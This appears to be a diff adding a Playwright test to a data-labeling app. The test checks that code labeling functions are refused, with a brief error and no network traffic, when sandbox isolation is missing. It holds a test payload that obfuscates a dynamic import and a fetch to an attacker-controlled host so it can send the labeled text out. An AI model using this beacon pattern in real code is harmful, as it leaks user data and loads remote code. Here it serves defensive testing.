+          `(x) => { try { (0, Function)('u', 'return im' + 'port(u)')(${A} + '/ran/${name}?d=' + encodeURIComponent(x.text)).catch(() => {}); } catch (e) {} try { fetch(${A} + '/ran/${name}'); } catch (e) {} return 'spam'; }`,
+        );
+      const codeLfs = [ran('beacon_one'), ran('beacon_two')];
+      const templates = ORDINARY.filter((l) => l.kind !== 'code');
+      const lfs = [...codeLfs, ...templates];
+      const before = await stored(page);
+      await importAndRun(h, projectFile('no-isolation', lfs), lfs);
+      await h.shot('attacks-no-isolation');
+      noEgressSince(h, attacker, m);
+      const after = await stored(page);
+      untouched(before, after);
+      const view = projectView(after, newProject(before, after));
+      const sentences: string[] = [];
+      for (const lf of codeLfs) {
+        expect(await statusOf(page, lf.name), `${lf.name} must not show a coverage`).not.toMatch(/coverage/);
+        const text = (await lfRow(page, lf.name).textContent()) ?? '';
+        const error = await errorOf(page, lf.name);
+        // One sentence saying why: short, not a stack trace.
+        const said = error || text;
+        expect(said, `${lf.name} must say why it did not run`).toMatch(/isolat|sandbox|process/i);
+        expect(error.length).toBeLessThan(400);
+        expect(error).not.toMatch(/\n\s+at /);
+        sentences.push(error);
+        expect(view.votes[lf.name]?.covered ?? 0, `${lf.name} must not have votes`).toBe(0);
+      }
+      expect(new Set(sentences).size, 'the same sentence for every code LF').toBe(1);
+      // The app says so where the user looks for the device's state, too.
+      expect.soft(await page.getByTestId('isolation-status').count(), 'the status bar says code LFs cannot run').toBe(1);
+      for (const lf of templates) {
+        expect(await statusOf(page, lf.name), `${lf.name} still runs`).toBe(coverageText(EXPECTED[lf.name]));
+        expect(view.votes[lf.name]?.digest, `${lf.name}'s votes`).toBe(digestOf(EXPECTED[lf.name]));
+      }
+      // The live preview of a code LF refuses too, and sends nothing.
+      await writeCodeLf(page, 'preview_beacon', (ran('preview_beacon') as Extract<LfDef, { kind: 'code' }>).source);
+      await page.waitForFunction(
+        () => /isolat|sandbox|process|rror|Coverage/i.test(document.querySelector('[data-testid="lf-preview"]')?.textContent ?? ''),
+        null,
+        { timeout: 60_000 },
+      );
+      await page.waitForTimeout(1500);
+      await h.shot('attacks-no-isolation-preview');
+      expect((await page.getByTestId('lf-preview').textContent()) ?? '').not.toMatch(/Coverage/);
+      noEgressSince(h, attacker, m);
+    });
+  },
+);
